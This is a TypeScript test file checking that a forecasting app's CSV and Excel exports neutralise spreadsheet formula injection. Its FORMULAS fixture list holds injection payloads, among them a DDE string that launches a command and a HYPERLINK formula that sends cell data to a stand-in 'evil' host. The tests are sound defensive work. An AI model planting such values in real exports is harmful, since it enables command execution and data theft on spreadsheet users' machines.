import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvText, EXCEL_IN_BRAZIL } from '../../../src/base/csv-text.ts'
import { forecastCsv, forecastExcelCsv } from '../../../src/reporting/forecast-table.ts'
import { orderCsv, orderExcelCsv } from '../../../src/reporting/order-table.ts'

const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  '@SUM(1+9)*cmd',
  '+1+1',
  '-2+3',
  '=HYPERLINK("http://evil/?"&A1,"x")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '"=1+1',
  `'=1+1`,
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  ' －1',
  '＠SUM(A1)',
]

test.each(FORMULAS)('a spreadsheet executes the id %j neither in forecasts nor in orders', (id) => {
  const values = { mean: 1, p10: 1, p50: 1, p90: 1 }
  const csvs = [
    forecastCsv([{ productId: id, storeId: id, from: '2026-10-26', ...values }]),
    orderCsv([{ productId: id, storeId: id, outcome: 'unknown', missing: 'price' }], 'en'),
  ]
  for (const csv of csvs) {
    const [, cells] = records(csv)
    for (const cell of cells.slice(0, 2)) expect(cell).toBe(`'${id}`)
  }
})

test.each(FORMULAS)('Excel in Brazil executes %j neither in forecasts nor in orders', (text) => {
  const named = { productId: text, storeId: text, name: text, category: text }
  const values = { mean: 1, p2_5: 1, p10: 1, p50: 1, p90: 1, p97_5: 1 }
  const csvs = [
    forecastExcelCsv([{ ...named, from: '2026-10-26', ...values }], 'pt-BR'),
    orderExcelCsv([{ ...named, outcome: 'unknown', missing: 'price' }], 'pt-BR'),
  ]
  for (const csv of csvs) {
    const [, cells] = parse(csv, { delimiter: ';', bom: true, record_delimiter: '\n' })
    expect(cells.slice(0, 4)).toEqual(Array(4).fill(`'${text}`))
  }
})

test('every text is read back exactly once the apostrophe of a formula is taken away', () => {
  // Few characters, so that those with a meaning meet in most of the texts.
  const unit = fc.constantFrom('"', ',', '\n', '\r', ' ', '\t', "'", '=', '-', '＠', 'a', '\ufeff')
  const texts = fc.array(fc.string({ unit, minLength: 1 }), { minLength: 1 })
  fc.assert(
    fc.property(texts, (texts) => {
      const cells = records(csvText(texts.map((text) => [text, 'x']))).map(([cell]) => cell)
      expect(cells.map((cell) => (isFormula(cell) ? cell.slice(1) : cell))).toEqual(texts)
    }),
  )
})

test('every text is read back by Excel in Brazil, too, and every number has its comma', () => {
  const unit = fc.constantFrom('"', ';', ',', '\n', ' ', "'", '=', 'a', '\ufeff')
  const rows = fc.array(
    fc.tuple(fc.string({ unit, minLength: 1 }), fc.double({ min: -1e9, max: 1e9, noNaN: true })),
    { minLength: 1 },
  )
  fc.assert(
    fc.property(rows, (rows) => {
      const csv = csvText(rows, EXCEL_IN_BRAZIL)
      const cells: string[][] = parse(csv, { delimiter: ';', bom: true, record_delimiter: '\n' })
      expect(cells.map(([text]) => (isFormula(text) ? text.slice(1) : text))).toEqual(
        rows.map(([text]) => text),
      )
      for (const [i, [, number]] of cells.entries()) {
        expect(number).toMatch(/^-?\d+(,\d{1,4})?$/)
        expect(Math.abs(Number(number.replace(',', '.')) - rows[i][1])).toBeLessThan(1e-4)
      }
    }),
  )
})

test('numbers below zero stay numbers, so that a buyer can add them up', () => {
  expect(csvText([['a', -3, -0.5, 1e21]])).toBe('a,-3,-0.5,1000000000000000000000\n')
})

function records(csv: string): string[][] {
  return parse(csv, { record_delimiter: '\n' })
}

function isFormula(cell: string): boolean {
  return /^['"\s]*[=+\-@\t\r\n＝＋－＠]/.test(cell)
}
